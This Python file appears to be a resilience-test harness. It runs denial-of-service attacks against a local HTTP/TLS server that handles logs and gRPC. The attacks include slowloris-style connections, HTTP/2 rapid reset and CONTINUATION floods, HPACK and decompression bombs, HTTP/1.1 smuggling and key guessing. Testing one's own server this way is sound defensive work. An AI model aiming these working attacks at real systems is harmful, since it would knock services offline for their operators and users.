"""The attackers of attacks.py, each a function of the target that goes on until told to stop. As a program it runs
one of them, pinned and niced by who starts it, and tells what it did:

    attackers.py NAME TARGET.json SECONDS
"""

import contextlib
import itertools
import json
import resource
import selectors
import socket
import ssl
import sys
import threading
import time

from support import attacks as a
from support import raw_http2 as h2
from support.raw_http2 import RawHttp2, frame

PIECE = 1 << 22  # bytes of one flood


class Target:
    """Where it is, and how long to go on."""

    def __init__(self, port, ca, key, seconds):
        self.port, self.ca, self.key = port, ca, key
        self.over, self.end = threading.Event(), time.monotonic() + seconds
        self.acts, self.connections = itertools.count(), itertools.count()
        self._contexts = {}

    @property
    def going(self):
        return not self.over.is_set() and time.monotonic() < self.end

    def tcp(self, source=None, timeout=5):
        next(self.connections)
        return socket.create_connection(("127.0.0.1", self.port), timeout, source and (source, 0))

    def tls(self, *protocols, source=None, timeout=5):
        """As support.raw_http2.tls, with one context for all connections."""
        if protocols not in self._contexts:
            context = ssl.create_default_context(cafile=self.ca)
            if protocols:
                context.set_alpn_protocols(list(protocols))
            self._contexts[protocols] = context
        raw = self.tcp(source, timeout)
        try:
            return self._contexts[protocols].wrap_socket(raw, server_hostname="localhost")
        except BaseException:
            raw.close()
            raise

    def raw(self, **options):
        next(self.connections)
        return RawHttp2(self.port, self.ca, **{"timeout": 5, **options})


# -- helpers: over and over in some threads; many connections held at once


def threads(n, act):
    """The attack that does `act(target)` over and over in n threads."""

    def run(target):
        def again():
            while target.going:
                with contextlib.suppress(OSError, ValueError):
                    act(target)
                next(target.acts)

        workers = [threading.Thread(target=again) for _ in range(n)]
        for w in workers:
            w.start()
        for w in workers:
            w.join()

    return run


def in_turns(*acts):
    turn = itertools.count()
    return lambda target: acts[next(turn) % len(acts)](target)


def hold(count, begin, drip=b"", pause=1.0):
    """The attack that keeps `count` connections made by `begin(target)`, and sends each a byte of `drip` now and
    then; those that are closed from over there are made anew."""

    def run(target):
        held = {}
        waiting = selectors.DefaultSelector()
        due = time.monotonic()
        while target.going:
            while len(held) < count and target.going:
                try:
                    sock = begin(target)
                except OSError:
                    time.sleep(0.01)
                    continue
                sock.setblocking(False)
                held[sock] = 0
                waiting.register(sock, selectors.EVENT_READ)
            for key, _ in waiting.select(max(0.0, due - time.monotonic())):
                if not _stays(key.fileobj):
                    _drop(waiting, held, key.fileobj)
            if time.monotonic() >= due:
                due = time.monotonic() + pause
                for sock in list(held):
                    if drip and not _send(sock, drip[held[sock] % len(drip)]):
                        _drop(waiting, held, sock)
                    elif drip:
                        held[sock] += 1
                        next(target.acts)
        for sock in held:
            sock.close()

    return run


def _stays(sock):
    try:
        return sock.recv(65536) != b""
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return True
    except OSError:
        return False


def _send(sock, byte):
    try:
        sock.send(bytes([byte]))
        return True
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return True
    except OSError:
        return False


def _drop(waiting, held, sock):
    waiting.unregister(sock)
    del held[sock]
    sock.close()


def until_cut(target, c, pieces):
    """Sends the pieces until the connection is closed from over there."""
    for piece in pieces:
        if not target.going:
            return
        c.send(piece)


# -- TLS and connections


def stalled_hello(target):
    sock = target.tcp()
    sock.sendall(a.hello()[:100])
    return sock


def handshakes(target):
    target.tls("h2").close()


def instead_of_handshakes(target):
    for data in a.junk():
        with contextlib.suppress(OSError), target.tcp() as sock:
            sock.sendall(data)


def leaving(target):
    before, http1, http2 = a.stages(target.key)
    for how in ("closed", "reset", "half-closed"):
        for sent in before:
            sock = target.tcp()
            sock.sendall(sent)
            a.vanish(sock, how)
        for alpn, all_sent in (("http/1.1", http1), ("h2", http2)):
            for sent in all_sent:
                sock = target.tls(alpn)
                sock.sendall((h2.PREFACE + h2.settings() if alpn == "h2" else b"") + sent)
                a.vanish(sock, how)


def half_closed(target):
    """A request is sent, then FIN; the answer is never read."""
    sock = target.tls("http/1.1")
    sock.sendall(a.with_key(a.post(f"Content-Length: {len(a.LOGS)}"), target.key) + a.LOGS[:100])
    with contextlib.suppress(OSError):
        sock.shutdown(socket.SHUT_WR)
    return sock


def idle(target, count=10_000):
    """One answered request on each connection, then nothing. From several addresses: one may have 5,000."""
    held, lock = [], threading.Lock()

    def connect(n):
        for i in range(n, count, 8):
            if not target.going:
                return
            with contextlib.suppress(OSError):
                sock = target.tls("h2", source=f"127.0.0.{2 + i % 50}", timeout=30)
                sock.sendall(h2.PREFACE + h2.settings() + a.CLOSED)
                sock.recv(1000)
                with lock:
                    held.append(sock)
                next(target.acts)

    workers = [threading.Thread(target=connect, args=(n,)) for n in range(8)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()
    while target.going:
        time.sleep(0.1)
    for sock in held:
        sock.close()


# -- HTTP/2


def floods(*names):
    def one(name):
        def act(target):
            first, again = a.flood(name, target.key)
            with target.raw(first=first) as c:
                c.flood(again, PIECE * 64, target.end - time.monotonic())

        return act

    return in_turns(*[one(name) for name in names])


def unread(name):
    def act(target):
        with target.raw(receive_buffer=4096) as c:
            until_cut(target, c, (a.provoking(name, c.next_streams(1000)) for _ in range(5000)))

    return act


def resets(make, key=True):
    def act(target):
        with target.raw() as c:
            until_cut(target, c, (make(target.key if key else None, c.next_streams(100)) for _ in range(5000)))

    return act


def windows(target):
    """A: a write blocked by a window that is zero, then opens."""
    with target.raw(first=h2.settings(INITIAL_WINDOW=0)) as c:
        for i in range(90):
            stream = c.ask()
            c.send(
                h2.window_update(stream, 1) + h2.settings(INITIAL_WINDOW=i % 7)
                + h2.settings(INITIAL_WINDOW=0) + h2.window_update(stream, 5)
            )  # fmt: skip
            c.send(h2.settings(INITIAL_WINDOW=65535) + h2.settings(INITIAL_WINDOW=0))
            c.status(stream)


def header_bombs(target):
    """B: 4,000 bytes in the table, referred to 14,000 times by each request."""
    with target.raw() as c:
        c.ask(block=h2.request(key=target.key) + a.BOMB_ENTRY, end=False)
        until_cut(target, c, _header_frames(c, h2.request(key=target.key) + a.BOMB_BLOCK))


def continued_bombs(target):
    """B: the same in HEADERS and CONTINUATION without an end."""
    with target.raw() as c:
        c.ask(block=h2.request(key=target.key) + a.BOMB_ENTRY, end=False)
        stream = c.next_stream()
        c.send(frame(h2.HEADERS, 0, stream, h2.request(key=target.key)))
        until_cut(target, c, itertools.repeat(frame(h2.CONTINUATION, 0, stream, a.BOMB_BLOCK), 30))


def one_byte_fields(target):
    """C: 16 KB of one-byte fields on each of 100 streams."""
    with target.raw() as c:
        until_cut(target, c, itertools.islice(_header_frames(c, h2.request(key=target.key) + b"\x90" * 16000), 100))


def table_games(target):
    """Entries that push each other out of the table, and its size changed between them."""
    sizes = b"\x20\x3f\xe1\x1f"  # 0, then 4,096 again
    entries = b"".join(b"\x40" + h2.string(f"n{i}") + h2.string("v" * 1000) for i in range(10))
    with target.raw() as c:
        until_cut(target, c, _header_frames(c, sizes + h2.request() + entries))


def _header_frames(c, block):
    while True:
        yield frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, c.next_stream(), block)


def after_goaway(target):
    """I: the connection reaches its age and is drained while a request is pending; what comes then never ends."""
    with target.raw(timeout=10) as c:
        c.ask(key=target.key, end=False)
        goaways = itertools.count(1)
        c.wait(lambda f: f.kind == h2.GOAWAY and next(goaways) == 2)
        stream = c.next_stream()
        c.send(frame(h2.HEADERS, 0, stream, h2.request(key=target.key)))
        until_cut(target, c, itertools.repeat(frame(h2.CONTINUATION, 0, stream, b"") * 1000, 1000))


def slow_streams(target):
    """J: 100 bodies at once, each with a byte now and then; those that are given up are begun anew."""
    with target.raw(timeout=0.2) as c:
        streams = set()
        while target.going:
            streams |= {c.ask(key=target.key, end=False) for _ in range(100 - len(streams))}
            c.send(b"".join(frame(h2.DATA, 0, s, b"x") for s in streams))
            with contextlib.suppress(TimeoutError):
                for f in c.frames():
                    if f.kind in (h2.HEADERS, h2.RST_STREAM):
                        streams.discard(f.stream)
                return  # closed


def untaken_answers(target):
    with target.raw(first=h2.settings(INITIAL_WINDOW=0), timeout=20) as c:
        streams = {c.ask() for _ in range(100)}
        while streams and target.going:
            streams.discard(c.wait(lambda f: f.kind == h2.RST_STREAM).stream)


def large_bodies(target):
    with target.raw(first=h2.window_update(0, 1 << 24)) as c:
        streams = [c.ask(key=target.key, end=False) for _ in range(100)]
        for _ in range(60):
            c.send(b"".join(frame(h2.DATA, 0, s, bytes(16000)) for s in streams))
            if not target.going:
                return


def open_block(target):
    """A header block that gets a byte now and then. hold() drips raw bytes, so they are one frame's."""
    sock = target.tls("h2")
    sock.sendall(h2.PREFACE + h2.settings() + frame(h2.HEADERS, 0, 1, b"\x82")
                 + frame(h2.CONTINUATION, 0, 1, h2.literal("x", "y" * 300))[:12])  # fmt: skip
    return sock


# -- bodies


def send_body(target, body, coding=None, grpc=False):
    """One request with this body; waits for its answer."""
    extra = [("grpc-encoding" if grpc else "content-encoding", coding)] if coding else []
    with target.raw(timeout=20) as c:
        stream = c.ask(key=target.key, kind=a.GRPC if grpc else a.PROTOBUF,
                       path=a.GRPC_PATH if grpc else "/v1/logs", extra=extra, end=False)  # fmt: skip
        for piece in a.data_frames(stream, body):
            c.send(piece)
        c.status(stream)


def coded_bombs(grpc):
    def act(target):
        for coding, body in a.coded_bombs().items():
            if target.going and not (grpc and coding == "lz4"):
                send_body(target, a.grpc_message(body) if grpc else body, coding, grpc)

    return act


def gzip_bombs(target):
    for body, _ in a.bombs().values():
        if target.going:
            send_body(target, body, "gzip")
            send_body(target, a.grpc_message(body), "gzip", grpc=True)


def rows(target):
    send_body(target, a.rows_bomb())


def prefixes(target):
    """gRPC messages that say they have 4 GiB, on 50 streams of a connection."""
    with target.raw() as c:
        streams = [c.ask(key=target.key, kind=a.GRPC, path=a.GRPC_PATH, body=a.grpc_message(b"x", 0, 0xFFFFFFFF),
                         end=False) for _ in range(50)]  # fmt: skip
        c.wait(lambda f: f.kind == h2.RST_STREAM and f.stream == streams[-1])


def one_byte_frames(target):
    body = a.grpc_message(a.LOGS, 0)
    with target.raw(timeout=20) as c:
        stream = c.ask(key=target.key, kind=a.GRPC, path=a.GRPC_PATH, end=False)
        c.send(b"".join(frame(h2.DATA, 0, stream, body[i : i + 1]) for i in range(len(body))))
        c.send(frame(h2.DATA, h2.END_STREAM, stream))
        c.wait(lambda f: f.kind == h2.DATA)


def deep_json(target):
    nested = b'{"arrayValue":{"values":[' * 40_000
    with target.tls("http/1.1") as sock:
        head = a.post(f"Authorization: Bearer {target.key}", "Content-Type: application/json",
                      f"Content-Length: {len(nested)}")  # fmt: skip
        sock.sendall(head + nested)
        sock.recv(1000)


def guesses(target):
    with target.raw() as c:
        streams = [c.ask(key=target.key[:-8] + f"{i:08d}", end=True) for i in range(90)]
        for stream in streams:
            c.status(stream)


# -- HTTP/1.1


def smuggled(target):
    for sent, _ in a.SMUGGLED:
        if target.going:
            with contextlib.suppress(OSError), target.tls("http/1.1") as sock:
                sock.sendall(a.with_key(sent, target.key))
                a.read_all(sock)


def endless(*names):
    def one(name):
        def act(target):
            first, again = a.ENDLESS_HTTP1[name]
            with target.tls("http/1.1", timeout=5) as sock:
                sock.sendall(first.replace(b"KEY", a.credentials(target.key).encode()))
                for _ in range((64 << 20) // len(again)):
                    if not target.going:
                        return
                    sock.sendall(again)

        return act

    return in_turns(*[one(name) for name in names])


def slow_head(target):
    sock = target.tls("http/1.1")
    sock.sendall(b"POST /v1/logs HTTP/1.1\r\n")
    return sock


def slow_body(target):
    sock = target.tls("http/1.1")
    sock.sendall(a.post(*a.credentials(target.key).split("\r\n"), "Content-Length: 100000"))
    return sock


# name: (what is said of it, the attack, more options of the router, how the neighbour sends). Of I: libcurl loses the
# trailers of gRPC that come along with a GOAWAY.
ATTACKS = {
    "handshakes-stalled": ("300 TLS handshakes that stall, a byte a second", hold(300, stalled_hello, a.hello()[100:])),
    "handshakes": ("TLS handshakes, one after the other", threads(4, handshakes)),
    "leaving": ("junk instead of a handshake; leaving at every stage", threads(4, in_turns(instead_of_handshakes, leaving))),
    "half-closed": ("300 half-closed sockets, answers not read", hold(300, half_closed)),
    "idle": ("10,000 idle connections", idle, "max_connections = 11000;"),
    "A windows": ("A: windows that open and close around an answer", threads(4, windows)),
    "B bombs": ("B: HPACK bombs, 14,000 references to 4,000 bytes", threads(4, in_turns(header_bombs, continued_bombs))),
    "C fields": ("C: 16 KB of one-byte fields on each stream", threads(4, one_byte_fields)),
    "table": ("HPACK table: entries that evict each other, size changes", threads(4, table_games)),
    "D reset": ("D: rapid reset without a key", threads(4, resets(a.rapid_resets, key=False))),
    "D reset key": ("D: rapid reset with a key", threads(4, resets(a.rapid_resets))),
    "E provoked": ("E: resets that the router is made to send", threads(4, resets(a.provoked_resets))),
    "F": ("F: CONTINUATION without end, empty frames, padding", threads(4, floods(
        "CONTINUATION", "empty CONTINUATION", "empty DATA", "padding alone", "more headers"))),
    "G ping": ("G: PING, SETTINGS, their acknowledgements", threads(4, floods("PING", "PING ACK", "SETTINGS"))),
    "control": ("PRIORITY, WINDOW_UPDATE, RST_STREAM", threads(4, floods("PRIORITY", "WINDOW_UPDATE", "RST_STREAM"))),
    "H unknown": ("H: unknown frames, DATA of closed streams", threads(4, floods("unknown frames", "DATA after the end"))),
    "I goaway": ("I: CONTINUATION without end after GOAWAY", threads(20, after_goaway), 'max_connection_age = "2s";', "http/protobuf"),
    "J slow": ("J: 100 slow bodies on each of 4 connections", threads(4, slow_streams)),
    "unread": ("frames that provoke frames, nothing read", threads(4, in_turns(*[unread(n) for n in a.PROVOKING]))),
    "untaken": ("answers that no window lets out", threads(8, untaken_answers)),
    "large": ("100 large bodies at once on each of 4 connections", threads(4, large_bodies)),
    "slow heads": ("300 HTTP/1.1 heads, a byte a second", hold(300, slow_head, b"x: y\r\n")),
    "slow blocks": ("300 HTTP/2 header blocks, a byte a second", hold(300, open_block, b"y")),
    "slow bodies": ("300 HTTP/1.1 bodies, a byte a second", hold(300, slow_body, b"x")),
    "bombs": ("64 MB of zeros in each content coding", threads(2, coded_bombs(grpc=False))),
    "bombs grpc": ("the same inside gRPC frames", threads(2, coded_bombs(grpc=True))),
    "bombs gzip": ("gzip that lies, in members, in gzip; HTTP and gRPC", threads(2, gzip_bombs)),
    "rows": ("10 GB of rows from 300 KB; JSON 40,000 deep", threads(2, in_turns(rows, deep_json))),
    "prefixes": ("length prefixes of 4 GiB; messages in frames of a byte", threads(4, in_turns(prefixes, one_byte_frames))),
    "smuggling": ("HTTP/1.1 that a proxy may read otherwise", threads(4, smuggled)),
    "endless": ("HTTP/1.1 without end: lines, chunks, trailers, pipelines", threads(7, endless(*a.ENDLESS_HTTP1))),
    "guesses": ("guessed keys", threads(4, guesses)),
}  # fmt: skip


def main(name, target, seconds):
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    with open(target) as f:
        it = json.load(f)
    target = Target(it["port"], it["ca"], it["key"], float(seconds))
    ATTACKS[name][1](target)
    used = resource.getrusage(resource.RUSAGE_SELF)
    print(json.dumps({"acts": next(target.acts), "connections": next(target.connections),
                      "cpu_s": used.ru_utime + used.ru_stime}))  # fmt: skip


if __name__ == "__main__":
    main(*sys.argv[1:])
